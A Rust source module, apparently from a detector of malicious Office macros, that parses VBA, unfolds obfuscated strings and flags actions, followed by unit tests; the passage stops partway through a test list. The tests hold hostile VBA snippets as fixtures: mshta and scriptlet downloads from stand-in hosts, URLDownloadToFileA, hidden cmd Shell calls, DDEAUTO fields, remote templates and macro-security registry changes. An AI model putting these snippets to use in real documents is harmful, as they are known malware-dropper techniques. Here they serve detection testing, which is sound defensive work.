//! The view of VBA source that rules judge by: procedures, declarations, constant texts, and what
//! the statements would do.
//!
//! Nothing is run. A text that is put together from constants is folded; a name that is computed
//! is not known. Who calls whom is taken from names alone, across modules and without scopes, so
//! that the graph may have an edge too many, and lacks the ones whose name is computed.

mod fold;
mod graph;
mod hints;
mod lex;
mod sight;
mod words;

use std::collections::BTreeMap;

pub use graph::{
    AutoStart, Caller, ProcedureId, Reached, auto_start, reachable_from, reachable_from_auto_exec,
};
pub use sight::{Action, Sighting};

use self::fold::{Constants, Fold};
use self::lex::{Statements, Token, TokenKind};
use self::sight::Sights;
use self::words::{NO_WORD, Words};
use crate::base::{Cx, LimitHit};
use crate::documents::workbook::{TextId, Texts};
use crate::indicators::command::decoded;

/// Names of one module that calls are followed by. A module of 65,536 lines, the editor's limit,
/// has fewer.
const NAMES: usize = 1 << 18;

/// How many times the work of one touch it is to view a text, measured on lines of short literals.
const TEXT_COST: usize = 16;

/// Memory that a procedure, a declaration or a sighting takes with its texts, the effect that is made
/// of it, and its place in lists that grow.
const ITEM_BYTES: usize = 640;

/// What the text of one module says.
#[derive(Debug, Clone, Default)]
pub struct SourceView {
    /// Physical lines.
    pub line_count: u32,
    /// Procedures, in the order of their lines.
    pub procedures: Vec<Procedure>,
    /// Functions of libraries that it declares.
    pub declares: Vec<Declare>,
    /// What it would do, in the order of lines.
    pub sightings: Vec<Sighting>,
    literals: Vec<Literal>,
    texts: Texts,
    names: Texts,
}

/// A procedure.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Procedure {
    /// Its name as written.
    pub name: String,
    /// What it is.
    pub kind: ProcedureKind,
    /// Whether it is `Private`.
    pub private: bool,
    /// Line of its header, from 1.
    pub first_line: u32,
    /// Line of its end.
    pub last_line: u32,
    names: Vec<TextId>,
}

/// Kinds of procedures.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum ProcedureKind {
    /// `Sub`
    Sub,
    /// `Function`
    Function,
    /// `Property Get`, `Let` or `Set`
    Property,
}

/// A function of a library ([MS-VBAL] 5.2.3.5).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Declare {
    /// Its name in the module.
    pub name: String,
    /// The library.
    pub library: String,
    /// Its name or ordinal in the library, when that is another one.
    pub alias: Option<String>,
    /// Line, from 1.
    pub line: u32,
}

/// A constant text, folded.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct Literal {
    text: TextId,
    line: u32,
    /// Index of the procedure, or the largest number.
    procedure: u32,
    joined: bool,
}

/// A constant text as [`SourceView::literals`] gives it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ConstantText<'v> {
    /// The text, with `&`, `Chr`, `StrReverse`, `Replace`, `Mid`, `Join` and named constants worked out;
    /// also what a text in Base64 or hexadecimal digits says, and what several statements put together.
    pub text: &'v str,
    /// Line that it begins in, from 1.
    pub line: u32,
    /// Index of the procedure that it stands in.
    pub procedure: Option<u32>,
    /// Whether it is more than one literal.
    pub joined: bool,
}

impl Declare {
    /// The name of the function in its library.
    pub fn function(&self) -> &str {
        self.alias.as_deref().unwrap_or(&self.name)
    }
}

impl SourceView {
    /// Constant texts that are not empty, in the order of lines.
    pub fn literals(&self) -> impl Iterator<Item = ConstantText<'_>> {
        self.literals.iter().map(|literal| ConstantText {
            text: self.texts.get(literal.text),
            line: literal.line,
            procedure: (literal.procedure != u32::MAX).then_some(literal.procedure),
            joined: literal.joined,
        })
    }

    fn item_count(&self) -> usize {
        let sightings = self.sightings.len();
        sightings.saturating_add(self.procedures.len()).saturating_add(self.declares.len())
    }

    /// Names that a procedure uses, in lower case: whatever it could call, or name to be called.
    pub fn names_used<'v>(&'v self, procedure: &'v Procedure) -> impl Iterator<Item = &'v str> {
        procedure.names.iter().map(|id| self.names.get(*id))
    }
}

/// Functions of libraries that the modules of a project declare for each other.
#[derive(Debug, Clone, Default)]
pub struct Shared {
    /// Names that are not private, and what calling the function is.
    names: Vec<(String, Action)>,
    /// Modules that declare one, so that it may be called behind their name.
    modules: Vec<String>,
}

/// Adds what a standard module declares to `into`. Such declarations stand before the first procedure,
/// so that no more of the text is read.
///
/// # Errors
/// [`LimitHit`]; `into` keeps every declaration so far.
pub fn share(name: &str, text: &str, into: &mut Shared, cx: &mut Cx<'_>) -> Result<(), LimitHit> {
    let mut statements = Statements::new(text);
    let (mut words, mut tokens) = (Words::new(), Vec::new());
    let mut declares_some = false;
    while statements.next(&mut tokens, &mut words) && header(&tokens).is_none() {
        let len = tokens.first().zip(tokens.last()).map_or(0, |(first, last)| last.end.abs_diff(first.start));
        cx.budget.step(u64::from(len >> 4).saturating_add(1))?;
        let Some(declare) = declare(&tokens) else { continue };
        let Some(kind) = sight::declared(&declare) else { continue };
        if !tokens.first().is_some_and(|first| first.is_word("Private")) {
            cx.budget.hold(ITEM_BYTES)?;
            into.names.push((declare.name, kind));
        }
        declares_some = true;
    }
    if declares_some {
        into.modules.push(name.to_owned());
    }
    Ok(())
}

/// Fills `into` from the text of one module. `shared` is what the modules of its project declare.
///
/// # Errors
/// [`LimitHit`]; `into` keeps every statement so far.
pub fn view(text: &str, shared: &Shared, into: &mut SourceView, cx: &mut Cx<'_>) -> Result<(), LimitHit> {
    // A byte is lexed, folded, looked up and searched for words, hashed and searched for addresses.
    cx.budget.touch(text.len().saturating_mul(TEXT_COST))?;
    cx.budget.step(shared.names.len().saturating_add(shared.modules.len()) as u64)?;
    let mut viewing = Viewing {
        text,
        into,
        sights: Sights::default(),
        constants: Constants::new(),
        // Constants that name each other would make texts without end.
        allowance: text.len().saturating_mul(2).saturating_add(1 << 16),
        words: Words::new(),
        open: None,
        first_literal: 0,
        calls_by_text: false,
        locals: BTreeMap::new(),
    };
    viewing.learn(shared);
    let result = viewing.statements(cx);
    viewing.end(cx);
    result
}

struct Viewing<'t, 'v> {
    text: &'t str,
    into: &'v mut SourceView,
    sights: Sights,
    constants: Constants,
    allowance: usize,
    words: Words<'t>,
    /// Index of the procedure that is open.
    open: Option<u32>,
    /// How many texts stand before that procedure.
    first_literal: usize,
    /// Whether that procedure calls something by a text.
    calls_by_text: bool,
    /// Texts of its variables, by the index of their name.
    locals: BTreeMap<u32, Local<'t>>,
}

/// A variable whose text is constant so far.
struct Local<'t> {
    text: String,
    /// Line of the statement that it got its text from last.
    line: u32,
    /// That statement.
    excerpt: &'t str,
    /// Whether it was more than one.
    grown: bool,
}

impl<'t> Viewing<'t, '_> {
    /// Makes the words known that other modules declare.
    fn learn(&mut self, shared: &Shared) {
        for (name, kind) in &shared.names {
            let word = self.words.index(name);
            self.words.teach(word, |known| known.native = Some(*kind));
        }
        for name in &shared.modules {
            let word = self.words.index(name);
            self.words.teach(word, |known| known.declares_natives = true);
        }
    }

    fn statements(&mut self, cx: &mut Cx<'_>) -> Result<(), LimitHit> {
        let mut statements = Statements::new(self.text);
        let mut tokens = Vec::new();
        let mut folds = Vec::new();
        while statements.next(&mut tokens, &mut self.words) {
            cx.budget.step(1)?;
            self.into.line_count = statements.line();
            let before = self.into.item_count();
            self.statement(&tokens, &mut folds);
            let added = self.into.item_count().saturating_sub(before);
            cx.budget.hold(added.saturating_mul(ITEM_BYTES))?;
        }
        self.into.line_count = statements.line();
        Ok(())
    }

    fn end(&mut self, cx: &mut Cx<'_>) {
        self.close(self.into.line_count);
        self.sights.finish(self.into);
        // What several statements put together was kept behind them.
        self.into.literals.sort_by_key(|literal| literal.line);
        if self.words.full {
            cx.abandoned(0..0, &format!("more than {NAMES} names: calls by the others are not followed"));
        }
    }

    fn statement(&mut self, tokens: &[Token<'t>], folds: &mut Vec<Fold>) {
        let Some(first) = tokens.first() else { return };
        // What is told apart here is so by one of its first words.
        let declares = tokens.iter().take(3).any(|token| token.known.declares);
        if declares && self.declaration(tokens) {
            return;
        }
        // Most statements have no text, and no word that does something.
        let (mut folds_some, mut acts, mut calls_by_text) = (false, false, false);
        for token in tokens {
            match token.kind {
                TokenKind::Word => {
                    folds_some |= token.known.folds | token.known.constant;
                    acts |= token.known.act.is_some() | token.known.native.is_some();
                    calls_by_text |= token.known.calls_by_text;
                    if let Some(open) = self.open {
                        self.name(token.word, open);
                    }
                }
                TokenKind::Text => folds_some = true,
                _ => {}
            }
        }
        folds.clear();
        if folds_some {
            fold::fold(tokens, &self.constants, &mut self.allowance, folds);
            self.decode(folds);
            self.grow(tokens, folds);
        }
        if declares && tokens.iter().take(3).any(|token| token.is_word("Const")) {
            self.name_constants(tokens, folds);
        }
        for fold in folds.iter().filter(|fold| !fold.text.is_empty()) {
            let line = tokens.get(fold.first).map_or(first.line, |token| token.line);
            if let Some(text) = self.into.texts.push(&fold.text) {
                let procedure = self.open.unwrap_or(u32::MAX);
                self.into.literals.push(Literal { text, line, procedure, joined: fold.joined });
            }
        }
        self.calls_by_text |= calls_by_text;
        if acts || !folds.is_empty() {
            self.sights.statement(tokens, folds, self.text, self.open, self.into);
        }
    }

    /// Puts behind each text that is written in Base64 or as hexadecimal digits what it says.
    fn decode(&mut self, folds: &mut Vec<Fold>) {
        let mut plain: Vec<Fold> = Vec::new();
        for fold in folds.iter() {
            if let Some(text) = decoded(&fold.text) {
                plain.push(Fold { text, joined: true, ..*fold });
            }
        }
        if !plain.is_empty() {
            folds.append(&mut plain);
            // Texts of one place keep their order.
            folds.sort_by_key(|fold| fold.first);
        }
    }

    /// Follows a variable that is given a constant text, and more of it by `name = name & "more"`.
    fn grow(&mut self, tokens: &[Token<'t>], folds: &[Fold]) {
        const LEN: usize = 1 << 15;
        let [name, equals, rest @ ..] = tokens else { return };
        if self.open.is_none() || name.word == NO_WORD || !equals.is_symbol(b'=') {
            return;
        }
        let whole = |from: usize| {
            let is_whole = |fold: &&Fold| fold.first == from && fold.last.saturating_add(1) == tokens.len();
            folds.iter().find(is_whole).map(|fold| fold.text.as_str())
        };
        if let Some(text) = whole(2) {
            if let Some(local) = self.locals.remove(&name.word) {
                self.end_local(&local);
            }
            let local = Local { text: text.to_owned(), line: name.line, excerpt: "", grown: false };
            self.locals.insert(name.word, local);
            return;
        }
        let [same, join, ..] = rest else { return };
        let grows = same.word == name.word && (join.is_symbol(b'&') || join.is_symbol(b'+'));
        let Some(more) = whole(4).filter(|_| grows) else { return };
        if let Some(local) = self.locals.get_mut(&name.word)
            && local.text.len().saturating_add(more.len()) <= LEN
        {
            local.text.push_str(more);
            local.line = name.line;
            local.excerpt = excerpt(self.text, tokens);
            local.grown = true;
        }
    }

    /// Keeps what a variable was given in several statements.
    fn end_local(&mut self, local: &Local<'_>) {
        if !local.grown {
            return;
        }
        if let Some(text) = self.into.texts.push(&local.text) {
            let procedure = self.open.unwrap_or(u32::MAX);
            self.into.literals.push(Literal { text, line: local.line, procedure, joined: true });
        }
        self.sights.put_together(&local.text, local.line, self.open, local.excerpt, self.into);
    }

    /// Takes a header or an end of a procedure, a `Declare` statement, or an attribute.
    fn declaration(&mut self, tokens: &[Token<'t>]) -> bool {
        let Some(first) = tokens.first() else { return true };
        if first.is_word("Attribute") {
            return true;
        }
        if let Some((kind, private, name)) = header(tokens) {
            self.close(first.line.saturating_sub(1));
            self.open = u32::try_from(self.into.procedures.len()).ok();
            self.first_literal = self.into.literals.len();
            self.calls_by_text = false;
            self.into.procedures.push(Procedure {
                name: name.text.to_owned(),
                kind,
                private,
                first_line: first.line,
                last_line: first.line,
                names: Vec::new(),
            });
            return true;
        }
        if first.is_word("End") && tokens.get(1).is_some_and(is_procedure_word) {
            self.close(first.line);
            return true;
        }
        if let Some(declare) = declare(tokens) {
            if let Some(kind) = sight::declared(&declare) {
                let word = self.words.index(&declare.name);
                self.words.teach(word, |known| known.native = Some(kind));
            }
            self.sights.declare(&declare, excerpt(self.text, tokens), self.into);
            self.into.declares.push(declare);
            return true;
        }
        false
    }

    /// Remembers the texts that a `Const` statement names.
    fn name_constants(&mut self, tokens: &[Token<'t>], folds: &[Fold]) {
        for fold in folds {
            let at = |back: usize| fold.first.checked_sub(back).and_then(|at| tokens.get(at));
            let whole = tokens.get(fold.last.saturating_add(1)).is_none_or(|next| next.is_symbol(b','));
            if !whole || !at(1).is_some_and(|token| token.is_symbol(b'=')) {
                continue;
            }
            let typed = at(3).is_some_and(|token| token.is_word("As"));
            let name = if typed { at(4) } else { at(2) };
            if let Some(name) = name.filter(|name| name.word != NO_WORD) {
                self.words.teach(name.word, |known| known.constant = true);
                self.constants.insert(name.word, fold.text.clone());
            }
        }
    }

    /// Notes the procedures that constant texts of a procedure name. The text may stand in another
    /// statement than the call: `n = "Later": Application.OnTime t, n`.
    fn names_in_texts(&mut self, open: u32) {
        for index in self.first_literal..self.into.literals.len() {
            let text = self.into.literals.get(index).map_or("", |literal| self.into.texts.get(literal.text));
            // 'Book.xls'!Module.Procedure
            let name = text.rsplit(['!', '.']).next().unwrap_or_default();
            let word = self.words.index(name.trim_matches(|c: char| c == '\'' || c == ' ' || c == '"'));
            self.name(word, open);
        }
    }

    /// Notes a name that the open procedure uses.
    fn name(&mut self, word: u32, open: u32) {
        if let Some(id) = self.words.used(word, open, &mut self.into.names)
            && let Some(procedure) = self.into.procedures.get_mut(open as usize)
        {
            procedure.names.push(id);
        }
    }

    fn close(&mut self, line: u32) {
        for local in std::mem::take(&mut self.locals).values() {
            self.end_local(local);
        }
        let Some(open) = self.open.take() else { return };
        if self.calls_by_text {
            self.names_in_texts(open);
        }
        if let Some(procedure) = self.into.procedures.get_mut(open as usize) {
            procedure.last_line = line.max(procedure.first_line);
            procedure.names.shrink_to_fit();
        }
        self.sights.close(open, self.into);
    }
}

/// The beginning of a statement as it is written.
fn excerpt<'t>(text: &'t str, tokens: &[Token<'_>]) -> &'t str {
    const LEN: usize = 256;
    let at = |at: u32| usize::try_from(at).unwrap_or(usize::MAX);
    let start = tokens.first().map_or(0, |token| at(token.start));
    let end = tokens.last().map_or(start, |token| at(token.end));
    let end = text.floor_char_boundary(end.min(start.saturating_add(LEN)));
    text.get(start..end).unwrap_or_default()
}

fn is_procedure_word(token: &Token<'_>) -> bool {
    ["Sub", "Function", "Property"].iter().any(|word| token.is_word(word))
}

/// Kind, `Private` and name of a procedure's header.
fn header<'a, 't>(tokens: &'a [Token<'t>]) -> Option<(ProcedureKind, bool, &'a Token<'t>)> {
    let is_modifier = |token: &&Token<'_>| {
        ["Public", "Private", "Friend", "Static", "Global"].iter().any(|word| token.is_word(word))
    };
    let modifiers = tokens.iter().take(3).take_while(is_modifier).count();
    let private = tokens.iter().take(modifiers).any(|token| token.is_word("Private"));
    let word = tokens.get(modifiers)?;
    let (kind, at) = match () {
        () if word.is_word("Sub") => (ProcedureKind::Sub, 1),
        () if word.is_word("Function") => (ProcedureKind::Function, 1),
        () if word.is_word("Property") => (ProcedureKind::Property, 2),
        () => return None,
    };
    let name = tokens.get(modifiers.saturating_add(at))?;
    (name.kind == TokenKind::Word).then_some((kind, private, name))
}

/// A `Declare` statement.
fn declare(tokens: &[Token<'_>]) -> Option<Declare> {
    let at = tokens.iter().take(2).position(|token| token.is_word("Declare"))?;
    let rest = tokens.get(at.saturating_add(1)..)?;
    let word = rest.iter().take(2).position(is_procedure_word)?;
    let name = rest.get(word.saturating_add(1)).filter(|name| name.kind == TokenKind::Word)?;
    let text_behind = |word: &str| {
        let at = rest.iter().take(64).position(|token| token.is_word(word))?;
        rest.get(at.saturating_add(1)).filter(|token| token.kind == TokenKind::Text)
    };
    let library = text_behind("Lib").map_or("", |token| token.text).to_owned();
    let alias = text_behind("Alias").map(|token| token.text.to_owned());
    Some(Declare { name: name.text.to_owned(), library, alias, line: name.line })
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::super::compression::tests::{with_cx, with_limits};
    use super::super::project::{Host, Module, ModuleKind, Project};
    use super::*;
    use crate::base::{LimitKind, Limits};

    fn viewed(text: &str) -> SourceView {
        let mut into = SourceView::default();
        let (result, problems) = with_cx(|cx| view(text, &mut into, cx));
        assert_eq!((result, problems.count()), (Ok(()), 0));
        into
    }

    fn view(text: &str, into: &mut SourceView, cx: &mut Cx<'_>) -> Result<(), LimitHit> {
        super::view(text, &Shared::default(), into, cx)
    }

    fn texts(text: &str) -> Vec<(String, u32)> {
        viewed(text).literals().map(|literal| (literal.text.to_owned(), literal.line)).collect()
    }

    fn text_of(statement: &str) -> Vec<String> {
        texts(statement).into_iter().map(|(text, _)| text).collect()
    }

    fn actions(text: &str) -> Vec<(Action, u32, Option<String>)> {
        let sightings = viewed(text).sightings.into_iter();
        sightings.map(|sighting| (sighting.kind, sighting.line, sighting.argument)).collect()
    }

    fn kinds(text: &str) -> Vec<Action> {
        actions(text).into_iter().map(|(kind, _, _)| kind).collect()
    }

    #[test]
    fn procedures_have_their_lines_and_names() {
        let view = viewed(
            "Attribute VB_Name = \"M\"\r\nOption Explicit\r\nPrivate Sub Auto_Open()\r\n  Call Other: x = y.Z\r\n\
             End Sub\r\nPublic Static Function F(a) As Long: F = 1: End Function\r\nProperty Let P(ByVal v)\r\nEnd Property",
        );
        let found: Vec<_> = view
            .procedures
            .iter()
            .map(|p| (p.name.as_str(), p.kind, p.private, p.first_line, p.last_line))
            .collect();
        assert_eq!(
            found,
            [
                ("Auto_Open", ProcedureKind::Sub, true, 3, 5),
                ("F", ProcedureKind::Function, false, 6, 6),
                ("P", ProcedureKind::Property, false, 7, 8),
            ]
        );
        let names: Vec<_> = view.names_used(&view.procedures[0]).collect();
        assert_eq!(names, ["call", "other", "x", "y", "z"]);
        assert_eq!(view.line_count, 8);
    }

    #[test]
    fn comments_and_strings_are_told_apart_over_continued_lines() {
        assert_eq!(
            texts(
                "a = \"it's\" ' no \"text\" _\r\n \"still a comment\"\r\nRem \"none\"\r\nb = _\r\n  \"say \"\"hi\"\"\"\r"
            ),
            [("it's".to_owned(), 1), ("say \"hi\"".to_owned(), 5)]
        );
        assert_eq!(text_of("remark = \"r\": Rem x = \"c\"\nlabel: y = \"open"), ["r", "open"]);
    }

    #[test]
    fn constants_are_folded() {
        assert_eq!(text_of("s = \"pow\" & \"er\" + \"shell\""), ["powershell"]);
        assert_eq!(text_of("s = Chr(104) & Chr$(&H74) & ChrW(58 + 58) & VBA.Chr(100 Xor 20)"), ["http"]);
        assert_eq!(text_of("s = StrReverse(\"llehs\" & \"rewop\")"), ["powershell"]);
        assert_eq!(text_of("s = Replace(\"hXXp\", \"X\", \"t\") & LCase(\"A\")"), ["httpa"]);
        assert_eq!(text_of("s = (\"a\" & (\"b\")) & 5"), ["ab5"]);
        assert_eq!(text_of("s = Mid(\"xabcx\", 2, 3) & Left(\"dxx\", 1) & Right$(\"xxe\", 1)"), ["abcde"]);
        assert_eq!(
            text_of("s = Mid(\"xab\", 2) & Mid(\"a\", 5) & Join(Array(\"c\", \"d\"), \"\")"),
            ["abcd"]
        );
        assert_eq!(text_of("s = Join(Array(\"a\", \"b\")): t = Array(\"c\", \"d\")"), ["a b", "c", "d"]);
        assert_eq!(
            text_of("Const A = \"x\"\nConst N = 1, B As String = A & \"y\"\ns = B & B & \"!\""),
            ["x", "xy", "xyxy!"]
        );
    }

    #[test]
    fn what_is_not_constant_keeps_the_texts_apart() {
        assert_eq!(text_of("s = \"a\" & f(\"b\" & \"c\") & \"d\" & \"e\""), ["a", "bc", "de"]);
        assert_eq!(text_of("s = Chr(x) & \"a\" & Chr(Asc(\"b\"))"), ["a", "b"]);
        assert_eq!(text_of("s = obj.Chr(65) & \"a\""), ["a"]);
        assert_eq!(text_of("s = Chr(3 + 4 * 20) & Chr(5 Xor 2 + 1)"), Vec::<String>::new());
        assert_eq!(text_of("f \"a\", \"b\": g(\"c\")(\"d\")"), ["a", "b", "c", "d"]);
    }

    #[test]
    fn texts_that_are_encoded_or_put_together_are_shown_in_clear() {
        let base64 = "bXNodGEgaHR0cDovL2EuaW52YWxpZC9hLmh0YQ==";
        assert_eq!(text_of(&format!("s = F(\"{base64}\")")), [base64, "mshta http://a.invalid/a.hta"]);
        let hex = "6d7368746120612e696e76616c6964";
        assert_eq!(text_of(&format!("s = F(\"{hex}\")")), [hex, "mshta a.invalid"]);
        assert_eq!(text_of("s = \"CommandButton1Click\""), ["CommandButton1Click"]);
        let code =
            "Sub S()\na = \"mshta \"\na = a & \"http\" & \"://\"\na = a & x\na = a + \"a\"\nShell a\nEnd Sub";
        let whole = "mshta http://a".to_owned();
        assert!(texts(code).contains(&(whole.clone(), 5)));
        assert!(actions(code).contains(&(Action::CommandText, 5, Some(whole))));
    }

    #[test]
    fn constants_that_double_each_other_end_at_the_allowance() {
        let mut text = "Const c0 = \"xxxxxxxxxxxxxxxx\"\n".to_owned();
        for n in 1..200 {
            text.push_str(&format!("Const c{n} = c{} & c{}\n", n - 1, n - 1));
        }
        let made: usize = viewed(&text).literals().map(|literal| literal.text.len()).sum();
        assert!(made < 4 * text.len() + (1 << 17), "{made}");
    }

    #[test]
    fn declarations_are_read() {
        let view = viewed(
            "Private Declare PtrSafe Function Fetch Lib \"urlmon\" Alias \"URLDownloadToFileA\" (ByVal a As Long) As Long",
        );
        assert_eq!(
            view.declares,
            [Declare {
                name: "Fetch".into(),
                library: "urlmon".into(),
                alias: Some("URLDownloadToFileA".into()),
                line: 1
            }]
        );
        let found: Vec<_> =
            view.sightings.iter().map(|sighting| (sighting.kind, sighting.argument.as_deref())).collect();
        let argument = Some("urlmon URLDownloadToFileA");
        assert_eq!(found, [(Action::Download, argument), (Action::NativeDeclare, argument)]);
    }

    #[test]
    fn processes_are_seen_with_their_command() {
        assert_eq!(
            actions("Shell \"cmd /c \" & \"calc\", vbHide"),
            [
                (Action::ProcessStart, 1, Some("cmd /c calc".into())),
                (Action::CommandText, 1, Some("cmd /c calc".into())),
                (Action::HiddenWindow, 1, None),
            ]
        );
        assert_eq!(
            actions("Set o = CreateObject(\"WScript.Shell\")\no.Run x & \" -a\", 0, False"),
            [
                (Action::CreateObject, 1, Some("WScript.Shell".into())),
                (Action::ProcessStart, 2, Some(" -a".into())),
                (Action::HiddenWindow, 2, None),
            ]
        );
        assert_eq!(kinds("CreateObject(Decode(1)).Exec y"), [Action::ProcessStart, Action::CreateObject]);
        assert_eq!(kinds("x = VBA.Shell(c, 0)"), [Action::ProcessStart, Action::HiddenWindow]);
        assert_eq!(
            kinds("GetObject(\"winmgmts:Win32_Process\").Create c"),
            [Action::ProcessStart, Action::CreateObject]
        );
    }

    #[test]
    fn function_of_a_library_counts_by_the_name_that_it_is_declared_with() {
        let declare = "Declare Function Bring Lib \"urlmon\" Alias \"URLDownloadToFileA\" (a) As Long\n";
        let sub = "Sub S()\nBring 0, \"http://x.invalid/a\"\nr = Module1.bring(0)\nx = rs.Bring(1)\nEnd Sub";
        let calls = |text: &str, shared: &Shared| -> Vec<(Action, u32)> {
            let mut view = SourceView::default();
            with_cx(|cx| super::view(text, shared, &mut view, cx)).0.unwrap();
            let of_calls = view.sightings.iter().filter(|sighting| sighting.procedure.is_some());
            of_calls.map(|sighting| (sighting.kind, sighting.line)).collect()
        };
        let shared = |text: &str| {
            let mut shared = Shared::default();
            with_cx(|cx| share("Module1", text, &mut shared, cx)).0.unwrap();
            shared
        };
        assert_eq!(calls(&format!("{declare}{sub}"), &Shared::default()), [(Action::Download, 3)]);
        let other = shared(&format!("Option Explicit\nPublic {declare}"));
        assert_eq!(calls(sub, &other), [(Action::Download, 2), (Action::Download, 3)]);
        let private = shared(&format!("Private {declare}"));
        assert_eq!(calls(sub, &private), []);
        let behind = shared(&format!("Sub T()\nEnd Sub\n{declare}"));
        assert_eq!(calls(sub, &behind), []);
    }

    #[test]
    fn shell_is_called_with_a_member_of_what_with_names() {
        let call = |text: &str| kinds(text).contains(&Action::ProcessStart);
        assert!(call("Shell .Tag, 0") && call("Shell !Command") && call("WinExec .Tag, 0"));
        assert!(!call("shell.Tag = 1") && !call("x = shell - 1") && !call("x = shell.y"));
    }

    #[test]
    fn texts_that_another_call_is_made_with_are_not_the_command() {
        let command = |text: &str| actions(text).into_iter().find(|(kind, ..)| *kind == Action::ProcessStart);
        let with = |argument: Option<&str>| Some((Action::ProcessStart, 1, argument.map(str::to_owned)));
        assert_eq!(command("Shell Environ(\"x\"), 0"), with(None));
        assert_eq!(command("Shell Environ(\"x\") & \"\\a.exe\", 0"), with(Some("\\a.exe")));
        assert_eq!(command("Shell Replace(x, \"a\", \"b\"), 0"), with(None));
        assert_eq!(command("Shell (\"a.exe\")"), with(Some("a.exe")));
        assert_eq!(command("Shell StrReverse(\"exe.a\")"), with(Some("a.exe")));
    }

    #[test]
    fn what_leaves_the_program_in_other_ways_is_seen() {
        use Action::{Download, LibraryLoad, ProcessStart, RegistryWrite, ScriptRun};
        for (text, kind) in [
            ("c = DDEInitiate(\"cmd\", \"/c a\")", ProcessStart),
            ("o.ActiveView.ExecuteShellCommand \"a.exe\"", ProcessStart),
            ("Set s = CreateObject(\"Schedule.Service\")\nf.RegisterTask \"a\", x, 6", ProcessStart),
            ("Set p = s.Get(\"Win32_Process\")\np.ExecMethod_ \"Create\", i", ProcessStart),
            ("Set s = CreateObject(\"Shell.Application\")\ns.Open \"C:\\a.js\"", ProcessStart),
            ("Set o = CreateObject(\"WScript.Shell\")\nCallByName o, m, 1, x", ProcessStart),
            ("VBA.CallByName F(1, 2), \"ShellExecute\", 1, \"a\"", ProcessStart),
            ("Range(\"A1\").Formula = \"=cmd|'/c a'!A0\"", ProcessStart),
            ("d.Fields.Add r, -1, \"DDEAUTO c:\\\\windows\\\\cmd.exe \"\"/c a\"\"\"", ProcessStart),
            ("Set x = GetObject(\"script:http://a.invalid/a.sct\")", ProcessStart),
            ("Set s = CreateObject(\"ScriptControl\")\ns.AddCode x", ScriptRun),
            ("h.parentWindow.execScript x, \"JScript\"", ScriptRun),
            ("Application.RegisterXLL p", LibraryLoad),
            ("Workbooks.Open Environ(\"TEMP\") & \"\\a.xll\"", LibraryLoad),
            ("LoadLibraryA Environ(\"TEMP\") & \"\\a.dll\"", LibraryLoad),
            (
                "Declare Function Go Lib \"C:\\Users\\Public\\a.dll\" () As Long\nSub S()\nGo 1\nEnd Sub",
                LibraryLoad,
            ),
            ("d.AttachedTemplate = \"http://a.invalid/a.dotm\"", Download),
            ("d.AttachedTemplate = \"\\\\a.invalid@80\\dav\\a.dotm\"", Download),
            ("s.AddOLEObject FileName:=\"http://a.invalid/a.hta\", LinkToFile:=True", Download),
            ("System.PrivateProfileString(\"\", k, \"VBAWarnings\") = \"1\"", RegistryWrite),
        ] {
            assert!(kinds(text).contains(&kind), "{text}: {:?}", kinds(text));
        }
        for text in [
            "c = DDEInitiate(\"Excel\", \"System\")",
            "Workbooks.Open \"C:\\a.js\"",
            "CallByName o, m, 1, x",
            "Range(\"A1\").Formula = \"=FEED|PRICES!A\"",
            "AddIns.Add \"C:\\a.xlam\"",
            "x.Eval \"1\"",
            "LoadLibraryA p & \"\\a.dll\"",
            "d.AttachedTemplate = \"\\\\server\\a.dotm\"",
            "v = System.PrivateProfileString(\"\", k, \"VBAWarnings\")",
        ] {
            let wanted = [Download, LibraryLoad, ProcessStart, RegistryWrite, ScriptRun];
            assert!(!kinds(text).iter().any(|kind| wanted.contains(kind)), "{text}: {:?}", kinds(text));
        }
    }

    #[test]
    fn run_of_an_unknown_object_with_the_name_of_a_macro_is_no_process() {
        let starts = |argument: &str| {
            let text = format!("Set o = CreateObject(F())\no.Run {argument}");
            kinds(&text).contains(&Action::ProcessStart)
        };
        for argument in ["\"BuildReport\"", "\"'a b.xlsm'!Build\", 1", "(\"Build\")"] {
            assert!(!starts(argument), "{argument}");
        }
        for argument in ["x", "\"a.exe\"", "\"cmd\"", "\"powershell\"", "\"Build\" & x", "\"a b\""] {
            assert!(starts(argument), "{argument}");
        }
        assert!(
            kinds("Set o = CreateObject(\"WScript.Shell\")\no.Run \"a\"").contains(&Action::ProcessStart)
        );
    }

    #[test]
    fn harmless_neighbours_are_not_seen() {
        for text in [
            "Dim Shell As Object: Set Shell = x: Shell.Refresh",
            "' Shell \"cmd\"",
            "s = \"Please kill the process\"",
            "robot.Run 5",
            "q = Replace(a, \"x\", \"y\")",
            "Workbooks.Open \"C:\\a.xls\"",
            "Sheets.Add Type:=1",
            "Debug.Print Chr(65)",
            "Range(\"A1\").Formula = \"=1\"",
            "If a = Asc(b) Then c = Mid(d, 1, 1)",
            "door.Open: letter.Send",
            "If Label1.Caption = \"x\" Then b = 1",
            "s = Label1.Caption",
        ] {
            assert_eq!(kinds(text), [], "{text}");
        }
    }

    #[test]
    fn each_kind_of_action_is_seen() {
        for (text, kind) in [
            ("Open p For Output As #1", Action::FileWrite),
            ("Print #1, x", Action::FileWrite),
            ("stream.SaveToFile p, 2", Action::FileWrite),
            ("If b Then Kill p", Action::FileDelete),
            ("ExecuteExcel4Macro s", Action::XlmFromVba),
            ("Sheets.Add Before:=x, Type:=3", Action::XlmFromVba),
            ("Application.Run Sheets(1).Range(\"A1\")", Action::XlmFromVba),
            ("Application.Run \"M.P\"", Action::MacroRun),
            ("Application.OnTime t, \"P\"", Action::ScheduledRun),
            ("x.VBProject.VBComponents(1).CodeModule.AddFromString s", Action::Replication),
            ("p = Application.StartupPath", Action::Replication),
            ("Application.Visible = False", Action::HiddenWindow),
            ("s = Chr(a) & Chr(b) & Chr(c) & Chr(d)", Action::StringBuilding),
            ("s = StrReverse(t)", Action::StringBuilding),
            ("CallByName o, s, 1", Action::CallByName),
            ("p = Environ(\"TEMP\")", Action::EnvironmentCheck),
            ("o.RegWrite k, 1", Action::RegistryWrite),
            ("k = \"\\Security\\AccessVBOM\"", Action::SecurityChange),
            ("SendKeys \"%{F4}\"", Action::SendKeys),
            ("MsgBox \"x\"", Action::Message),
            ("s = InputBox(\"x\")", Action::Message),
